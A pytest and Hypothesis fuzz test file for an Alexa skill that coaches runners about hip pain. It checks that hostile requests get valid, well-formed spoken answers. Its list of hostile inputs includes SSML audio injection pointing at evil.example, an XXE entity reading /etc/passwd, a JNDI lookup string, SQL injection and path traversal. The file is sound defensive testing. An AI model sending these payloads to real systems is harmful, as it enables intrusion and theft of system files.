"""Hostile input through the Lambda entry point: every request gets a valid answer, none crashes.

Envelopes are built from the interaction models (Alexa's, `hipcoach.standin.nlu.load_model`, and the
catalogue's, `hipcoach.understanding.matcher.load_model`; `hipcoach.standin.envelopes`)
and then made hostile: slot values that are empty, huge, control characters, SSML/markup injection,
numbers out of range, words where numbers belong; intents and request types the skill does not
know; locales it lacks; session attributes tampered with. Each answer must deserialize as a
ResponseEnvelope, carry well-formed SSML under 8000 characters in which the hostile text is only
text (never markup), and not be the error handler's apology (an exception inside a handler).
"""

from __future__ import annotations

import copy
import importlib.util
import json
import uuid
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from ask_sdk_core.serialize import DefaultSerializer
from ask_sdk_model import ResponseEnvelope
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hipcoach.app import build_skill
from hipcoach.intent_result import NluResult
from hipcoach.persistence.sqlite import SQLitePersistenceAdapter
from hipcoach.speech.texts import Texts
from hipcoach.standin import envelopes
from hipcoach.standin.envelopes import DeviceProfile, SessionState
from hipcoach.standin.nlu import load_model
from hipcoach.understanding.matcher import load_model as load_catalogue

ROOT = Path(__file__).resolve().parents[2]
# The intents a request may carry: Alexa's model (built-ins and the catch-all answer intents, whose
# words the skill's understanding reads) and the catalogue's internal intents (the handlers still
# answer them when sent directly, as an attacker could).
MODEL = load_catalogue("en-US")
ALEXA = load_model("en-US")
INTENT_SLOTS = {**MODEL.intent_slots, **ALEXA.intent_slots}
INTENTS = sorted(INTENT_SLOTS)
CUSTOM_TYPES = {t["name"] for t in MODEL.raw["interactionModel"]["languageModel"]["types"]} | {
    slot_type for slot_type in ALEXA.values
}
APOLOGY = Texts("en-US").get("interview.error")
DAY = datetime(2026, 3, 10, 18, 30, tzinfo=UTC)
SETTINGS = settings(
    max_examples=200,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    derandomize=True,
)

EVIL = "evil.example"
HOSTILE_TEXT = [
    "",
    " ",
    "\x00\x01\x02\x07\x1b[31m\x7f",
    "\u202e\ufeff\u200b",
    "A" * 20000,
    "seven " * 3000,
    f'</speak><audio src="https://{EVIL}/x.mp3"/><speak>',
    f"<speak><audio src='https://{EVIL}/a.mp3'/></speak>",
    '"><break time="600s"/>',
    "]]><!--",
    "&amp;&lt;&#0;&#x1F4A9;&bogus;",
    "<![CDATA[<evil/>]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE attributes; --",
    "../../../../etc/passwd",
    "{interview.error}{0}{__class__}",
    "%s%s%n",
    "NaN",
    "Infinity",
    "-Infinity",
    "1e309",
    "-1",
    "-0",
    "0",
    "0.0000001",
    "11",
    "99999999999999999999999999",
    "7.5.3",
    "seven",
    "a lot",
    "P",
    "PT",
    "P-3D",
    "P99999999999W",
    "P1.5.5D",
    "PT99999999H",
    "P" + "9" * 400 + "D",
    "PT" + "9" * 400 + "H",
    "9" * 400,
    "9999-99-99",
    "0000-01-01",
    "2025-W99",
    "2025-W00-WE",
    "-2025-10",
    "99999",
    "😀🏃‍♀️🦵",
]
HOSTILE_IDS = ["", "outer_hip'", "__proto__", "constructor", *HOSTILE_TEXT[4:12]]
BUILTIN_VALUES = {
    "AMAZON.NUMBER": ["7", "0", "10", "3.5", "25", "-4", "1e400", "nan"],
    "AMAZON.DURATION": ["P2W", "P10D", "PT5H", "P3M", "P0D", "P1Y"],
    "AMAZON.DATE": ["2026-03-01", "2026-W09", "2026-W09-WE", "2026-02", "2025", "2026-12-31"],
}


def custom_ids(slot_type: str) -> list[str]:
    return sorted(MODEL.slot_type_values(slot_type))


def text_values() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(HOSTILE_TEXT),
        st.text(max_size=60),
        st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=400),
        st.integers(min_value=-(10**30), max_value=10**30).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
    )


@st.composite
def slot_json(draw: st.DrawFn, name: str, slot_type: str) -> dict[str, Any]:
    """One slot as Alexa would send it, or as an attacker could."""
    choice = draw(st.integers(0, 4))
    slot: dict[str, Any] = {"name": name, "confirmationStatus": "NONE"}
    if choice == 0:
        return slot  # unfilled
    if slot_type in CUSTOM_TYPES:
        ids = custom_ids(slot_type)
        value = draw(text_values())
        if choice in (1, 2) and ids:
            value_id = draw(st.sampled_from(ids))
        else:
            value_id = draw(st.sampled_from(HOSTILE_IDS) | st.text(max_size=30))
        status = "ER_SUCCESS_MATCH" if choice != 4 else "ER_SUCCESS_NO_MATCH"
        authority = {
            "authority": f"amzn1.er-authority.echo-sdk.{envelopes.LOCAL_SKILL_ID}.{slot_type}",
            "status": {"code": status},
        }
        if status == "ER_SUCCESS_MATCH":
            authority["values"] = [{"value": {"name": value, "id": value_id}}]
        slot["value"] = value
        slot["resolutions"] = {"resolutionsPerAuthority": [authority]}
        return slot
    good = BUILTIN_VALUES.get(slot_type, [])
    slot["value"] = draw(st.sampled_from(good) if choice in (1, 2) and good else text_values())
    return slot


def base_envelope(
    intent: str | None,
    *,
    locale: str = "en-US",
    attributes: dict[str, Any] | None = None,
    user: str = "amzn1.ask.account.FUZZ",
    new: bool = False,
) -> dict[str, Any]:
    session = SessionState(new=new, attributes=dict(attributes or {}))
    device = DeviceProfile(user_id=user, apl=True)
    if intent is None:
        built = envelopes.launch_request(
            session=session, device=device, locale=locale, timestamp=DAY
        )
    else:
        result = NluResult(intent, {}, {}, 1.0, "")
        built = envelopes.intent_request(
            result, session=session, device=device, locale=locale, timestamp=DAY
        )
    payload = envelopes.to_dict(built)
    payload["session"]["attributes"] = copy.deepcopy(attributes or {})
    return payload


@st.composite
def intent_envelopes(draw: st.DrawFn) -> dict[str, Any]:
    intent = draw(st.sampled_from(INTENTS))
    payload = base_envelope(intent, attributes=draw(session_attributes()))
    slots = INTENT_SLOTS[intent]
    payload["request"]["intent"]["slots"] = {
        name: draw(slot_json(name, slot_type)) for name, slot_type in slots.items()
    }
    return payload


# -- tampered session attributes ----------------------------------------------------------------

MODES = ["idle", "interview", "result", "routine", "followup", "confirm_delete", "offer_routine"]
FINDINGS = ["pain_location", "pain_severity", "pain_days", "night_pain", "mileage_increase_pct"]
JUNK = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from(HOSTILE_TEXT),
    st.lists(st.integers(), max_size=3),
    st.just({"nested": {"deep": [1, "two", None]}}),
)


def good_interview() -> dict[str, Any]:
    return {
        "findings": {"pain_location": "outer_hip", "pain_severity": 4},
        "exhausted": [],
        "asking": "pain_timing",
        "asked": 2,
    }


def good_routine() -> dict[str, Any]:
    return {"id": "stretch", "exercise": 0, "side": "left", "set": 1, "paused": False}


@st.composite
def tampered_interview(draw: st.DrawFn) -> Any:
    state = good_interview()
    kind = draw(st.integers(0, 6))
    if kind == 0:
        return draw(JUNK)
    if kind == 1:
        state["findings"] = {draw(st.sampled_from(FINDINGS)): draw(JUNK)}
    elif kind == 2:
        state["findings"] = {draw(st.text(max_size=20)): draw(JUNK)}
    elif kind == 3:
        state["asking"] = draw(JUNK | st.text(max_size=20))
    elif kind == 4:
        state["asked"] = draw(JUNK)
    elif kind == 5:
        state["exhausted"] = draw(
            st.lists(st.sampled_from(FINDINGS), max_size=3)
            | st.just(["pain_location"] * 100000)
            | JUNK
        )
    else:
        state["findings"] = {f"f{i}": i for i in range(5000)}
    return state


@st.composite
def tampered_routine(draw: st.DrawFn) -> Any:
    state = good_routine()
    kind = draw(st.integers(0, 4))
    if kind == 0:
        return draw(JUNK)
    key = draw(st.sampled_from(sorted(state)))
    if kind == 1:
        state[key] = draw(JUNK)
    elif kind == 2:
        state["exercise"] = draw(st.sampled_from([-1, 5, 99, 10**12, 1.5, 1e308, -(10**20)]))
    elif kind == 3:
        state["set"] = draw(st.sampled_from([0, -1, 99, 10**12, 2.5]))
    else:
        state["id"] = draw(st.sampled_from(["", "yoga", "../stretch", "__init__", "STRETCH"]))
    return state


@st.composite
def session_attributes(draw: st.DrawFn) -> dict[str, Any]:
    attributes: dict[str, Any] = {}
    if draw(st.booleans()):
        attributes["mode"] = draw(st.sampled_from(MODES) | JUNK | st.text(max_size=20))
    if draw(st.booleans()):
        attributes["interview"] = draw(st.just(good_interview()) | tampered_interview())
    if draw(st.booleans()):
        attributes["routine"] = draw(st.just(good_routine()) | tampered_routine())
    if draw(st.booleans()):
        attributes["memory"] = draw(JUNK)
    if draw(st.booleans()):
        attributes[draw(st.sampled_from(["offer", "outcome", "unknown_key"]))] = draw(JUNK)
    if draw(st.booleans()):
        attributes["huge"] = list(range(draw(st.sampled_from([0, 10, 50000]))))
    return attributes


# -- the harness ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def lambda_module(tmp_path_factory, request):
    """lambda/lambda_function.py with the real skill on a temporary SQLite file."""
    mp = pytest.MonkeyPatch()
    mp.delenv("SKILL_ID", raising=False)
    mp.setenv("HIPCOACH_ALLOW_ANY_SKILL_ID", "1")  # the fuzzing sends envelopes of any skill id
    mp.delenv("HIPCOACH_DYNAMODB_TABLE", raising=False)
    spec = importlib.util.spec_from_file_location(
        "lambda_function_fuzz", ROOT / "lambda" / "lambda_function.py"
    )
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    adapter = SQLitePersistenceAdapter(tmp_path_factory.mktemp("fuzz") / "fuzz.db")
    module._skill = build_skill(adapter)
    yield module
    adapter.close()
    mp.undo()


_serializer = DefaultSerializer()
SPEECH_TAGS = {
    "speak",
    "break",
    "audio",
    "p",
    "s",
    "emphasis",
    "prosody",
    "say-as",
    "amazon:effect",
}


def check_ssml(ssml: str) -> None:
    assert len(ssml) < 8000, len(ssml)
    root = ET.fromstring(ssml)  # well formed, or this raises
    assert root.tag == "speak"
    for element in root.iter():
        assert element.tag in SPEECH_TAGS, element.tag
        for value in element.attrib.values():
            assert EVIL not in value
        if element.tag == "audio":
            assert element.get("src", "").startswith("https://"), element.attrib
        if element.tag == "break":
            assert element.get("time", "").endswith("ms")
            assert int(element.get("time", "0ms")[:-2]) <= 10000


def check_answer(event: dict[str, Any], answer: Any) -> dict[str, Any]:
    """The invariants every answer keeps; returns the answer's `response` body."""
    assert isinstance(answer, dict)
    assert len(json.dumps(answer)) < 24 * 1024, "Alexa rejects a response over 24 KB"
    envelope = _serializer.deserialize(json.dumps(answer), ResponseEnvelope)
    assert isinstance(envelope, ResponseEnvelope)
    body = answer.get("response") or {}
    json.dumps(body, allow_nan=False)  # what the skill says is strict JSON
    # Session attributes are the client's own, echoed; what the skill writes there is finite.
    for key in ("mode", "interview", "routine"):
        value = (answer.get("sessionAttributes") or {}).get(key)
        sent = ((event.get("session") or {}).get("attributes") or {}).get(key)
        if value is not None and json.dumps(value) != json.dumps(sent):
            json.dumps(value, allow_nan=False)
    kind = event["request"]["type"]
    speech = (body.get("outputSpeech") or {}).get("ssml")
    if kind == "SessionEndedRequest":
        assert speech is None and body.get("reprompt") is None
        return body
    if kind in ("LaunchRequest", "IntentRequest"):
        assert speech, f"no speech for {kind}"
    if speech is not None:
        check_ssml(speech)
        assert APOLOGY not in speech, "a handler raised (the error handler apologised)"
    reprompt = ((body.get("reprompt") or {}).get("outputSpeech") or {}).get("ssml")
    if reprompt is not None:
        check_ssml(reprompt)
    card = body.get("card") or {}
    for value in card.values():
        if isinstance(value, str):
            assert len(value) < 8000
    return body


def call(module: Any, event: dict[str, Any]) -> dict[str, Any]:
    """The answer's `response` body, after checking the invariants."""
    answer = module.lambda_handler(copy.deepcopy(event), None)
    return check_answer(event, answer)


# -- the properties -------------------------------------------------------------------------------


@SETTINGS
@given(event=intent_envelopes())
def test_hostile_slots_and_tampered_sessions(lambda_module, event):
    call(lambda_module, event)


@SETTINGS
@given(event=intent_envelopes(), locale=st.sampled_from(["de-DE", "fr-FR", "ja-JP", "", "xx"]))
def test_locales_the_skill_lacks(lambda_module, event, locale):
    event["request"]["locale"] = locale
    call(lambda_module, event)


@SETTINGS
@given(
    name=st.one_of(
        st.sampled_from(
            [
                "AMAZON.ScrollDownIntent",
                "AMAZON.SendToPhoneIntent",
                "AMAZON.LoopOnIntent",
                "FooIntent",
                "",
                "intent" * 1000,
            ]
        ),
        st.text(max_size=40),
    ),
    attributes=session_attributes(),
)
def test_unknown_intents(lambda_module, name, attributes):
    event = base_envelope(name, attributes=attributes)
    body = call(lambda_module, event)
    assert body["outputSpeech"]["ssml"]


def other_request(kind: str, attributes: dict[str, Any], locale: str) -> dict[str, Any]:
    event = base_envelope(None, attributes=attributes, locale=locale)
    request = {
        "type": kind,
        "requestId": f"amzn1.echo-api.request.{uuid.uuid4()}",
        "timestamp": "2026-03-10T18:30:00Z",
        "locale": locale,
    }
    if kind == "SessionEndedRequest":
        request["reason"] = "ERROR"
        request["error"] = {"type": "INVALID_RESPONSE", "message": HOSTILE_TEXT[6]}
    elif kind == "Alexa.Presentation.APL.UserEvent":
        request["token"] = "routine"
        request["arguments"] = ["next", HOSTILE_TEXT[6], {"a": 1}]
        request["source"] = {"type": "TouchWrapper", "handler": "Press", "id": "x"}
    elif kind == "CanFulfillIntentRequest":
        request["intent"] = {
            "name": "LocationIntent",
            "slots": {"location": {"name": "location", "value": HOSTILE_TEXT[6]}},
        }
    elif kind == "Connections.Response":
        request["name"] = "Buy"
        request["status"] = {"code": "500", "message": HOSTILE_TEXT[7]}
        request["payload"] = {"purchaseResult": "ERROR"}
        request["token"] = "t"
    event["request"] = request
    return event


@SETTINGS
@given(
    kind=st.sampled_from(
        [
            "SessionEndedRequest",
            "Alexa.Presentation.APL.UserEvent",
            "CanFulfillIntentRequest",
            "Connections.Response",
            "AudioPlayer.PlaybackStarted",
            "System.ExceptionEncountered",
        ]
    ),
    attributes=session_attributes(),
    locale=st.sampled_from(["en-US", "en-GB", "de-DE", "fr-FR"]),
)
def test_other_request_types(lambda_module, kind, attributes, locale):
    call(lambda_module, other_request(kind, attributes, locale))


def test_session_ended_with_error_mid_interview_has_no_speech(lambda_module):
    attributes = {"mode": "interview", "interview": good_interview()}
    body = call(lambda_module, other_request("SessionEndedRequest", attributes, "en-US"))
    assert "outputSpeech" not in body


@pytest.mark.parametrize("locale", ["de-DE", "fr-FR"])
def test_launch_in_a_locale_the_skill_lacks_answers_in_english(lambda_module, locale):
    body = call(lambda_module, base_envelope(None, locale=locale, user=f"u-{locale}", new=True))
    assert "Hip Coach" in body["outputSpeech"]["ssml"]


@pytest.mark.parametrize(
    "value", [HOSTILE_TEXT[6], HOSTILE_TEXT[7], "A" * 20000, "\x00\x1b<x>&"], ids=str.__len__
)
@pytest.mark.parametrize(
    "intent,slot", [("NumberIntent", "number"), ("LocationIntent", "location")]
)
def test_injection_in_an_interview_answer_is_never_markup(lambda_module, value, intent, slot):
    event = base_envelope(intent, attributes={"mode": "interview", "interview": good_interview()})
    event["request"]["intent"]["slots"] = {
        slot: {"name": slot, "value": value, "confirmationStatus": "NONE"}
    }
    body = call(lambda_module, event)
    assert "audio" not in body["outputSpeech"]["ssml"]


@pytest.mark.parametrize(
    "routine",
    [
        {**good_routine(), "exercise": 10**6},
        {**good_routine(), "exercise": float("inf")},
        {**good_routine(), "exercise": float("nan")},
        {**good_routine(), "set": -3},
        {**good_routine(), "side": "middle"},
        {**good_routine(), "id": "../../etc"},
        ["stretch", 0],
    ],
    ids=["step-out-of-range", "step-infinite", "step-nan", "set-negative", "side", "id", "list"],
)
@pytest.mark.parametrize("intent", ["AMAZON.NextIntent", "AMAZON.PreviousIntent", "TimeLeftIntent"])
def test_tampered_routine_restarts_cleanly(lambda_module, routine, intent):
    event = base_envelope(intent, attributes={"mode": "routine", "routine": routine})
    body = call(lambda_module, event)
    assert body["outputSpeech"]["ssml"]


ANSWERS = {
    "pain_location": "on the outside",
    "pain_timing": "after my run",
    "onset": "gradually",
    "pain_quality": "a dull ache",
    "pain_severity": "four",
    "pain_days": "about two weeks",
    "pain_radiates": "it doesn't spread",
}


@pytest.mark.parametrize(
    "intent,slot,value",
    [
        ("PlanWeekIntent", "distance", "1e400"),
        ("LogRunIntent", "distance", "inf"),
        ("MileageAdviceIntent", "distance", "9" * 400),
        ("DurationIntent", "duration", "P" + "9" * 400 + "D"),
        ("DurationIntent", "duration", "PT" + "9" * 400 + "H"),
        ("DurationIntent", "number", "1e400"),
        ("NumberIntent", "number", "nan"),
    ],
)
@pytest.mark.parametrize("mode", ["idle", "interview"])
def test_numbers_that_overflow(lambda_module, intent, slot, value, mode):
    """Found by the fuzzing: an infinite number once reached int() and the apology."""
    attributes = {"mode": mode, "interview": {**good_interview(), "asking": "pain_days"}}
    event = base_envelope(intent, attributes=attributes)
    event["request"]["intent"]["slots"] = {
        slot: {"name": slot, "value": value, "confirmationStatus": "NONE"}
    }
    assert call(lambda_module, event)["outputSpeech"]["ssml"]


def test_interview_to_result_still_works_after_the_fuzzing(lambda_module):
    """A sanity anchor: the same skill object still runs a normal conversation to its result."""
    from hipcoach.standin.nlu import resolve

    today = DAY.date()
    conversation = envelopes.Conversation("en-US", DeviceProfile(user_id="amzn1.ask.account.SANE"))
    answer = lambda_module.lambda_handler(envelopes.to_dict(conversation.launch(DAY)), None)
    utterance = "check my hip"
    for _ in range(40):
        conversation.absorb(answer)
        understood = resolve(utterance, "en-US", today)
        event = envelopes.to_dict(conversation.intent(understood, DAY))
        answer = lambda_module.lambda_handler(event, None)
        check_answer(event, answer)
        attributes = answer.get("sessionAttributes") or {}
        if attributes.get("mode") != "interview":
            break
        utterance = ANSWERS.get(attributes["interview"]["asking"], "I don't know")
    assert (answer.get("sessionAttributes") or {}).get("outcome"), answer


# -- hostile bodies: a spoken apology, never a traceback; short log lines, small answers -------


def _nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {}
    for _ in range(depth):
        value = {"x": value}
    return value


def _hostile_events() -> dict[str, dict[str, Any]]:
    launch = base_envelope("AMAZON.HelpIntent")
    no_context = {k: v for k, v in launch.items() if k != "context"}
    deep = copy.deepcopy(launch)
    deep["session"]["attributes"] = {"x": _nested(900)}
    null_values = copy.deepcopy(launch)
    null_values["request"]["intent"]["slots"] = {
        "location": {
            "name": "location",
            "value": "outside",
            "resolutions": {"resolutionsPerAuthority": [{"status": {}, "values": None}]},
        }
    }
    null_intent = copy.deepcopy(launch)
    null_intent["request"]["intent"] = None
    return {
        "thousands deep": {**launch, "junk": _nested(5000)},
        "session attributes 900 deep": deep,
        "no context": no_context,
        "null request": {**launch, "request": None},
        "null intent": null_intent,
        "null resolution values": null_values,
    }


@pytest.mark.parametrize("name", sorted(_hostile_events()))
def test_hostile_events_get_a_spoken_apology(lambda_module, name, monkeypatch):
    import io
    import logging

    from hipcoach.hosting import jsonlog

    monkeypatch.setenv("SKILL_ID", envelopes.LOCAL_SKILL_ID)  # set: no context must not crash
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(jsonlog.JsonFormatter())
    logging.getLogger("hipcoach").addHandler(handler)
    try:
        answer = lambda_module.lambda_handler(_hostile_events()[name], None)
    finally:
        logging.getLogger("hipcoach").removeHandler(handler)
    envelope = _serializer.deserialize(json.dumps(answer), ResponseEnvelope)
    assert isinstance(envelope, ResponseEnvelope)
    assert APOLOGY in answer["response"]["outputSpeech"]["ssml"]
    lines = stream.getvalue().splitlines()
    assert lines and all(len(line) <= 2048 for line in lines)
    assert all(json.loads(line).get("outcome") == "malformed" for line in lines)


def test_junk_session_keys_are_not_echoed_and_answers_stay_small(lambda_module):
    attributes = {f"junk{i}": "j" * 1000 for i in range(24)}
    attributes["mode"] = "idle"
    event = base_envelope("AMAZON.HelpIntent", attributes=attributes)
    event["request"]["requestId"] = "amzn1.echo-api.request." + "7" * 20000
    answer = lambda_module.lambda_handler(event, None)
    assert len(json.dumps(answer)) < 24 * 1024
    assert set(answer.get("sessionAttributes") or {}) <= {"mode", "interview", "routine"}
    check_answer(event, answer)
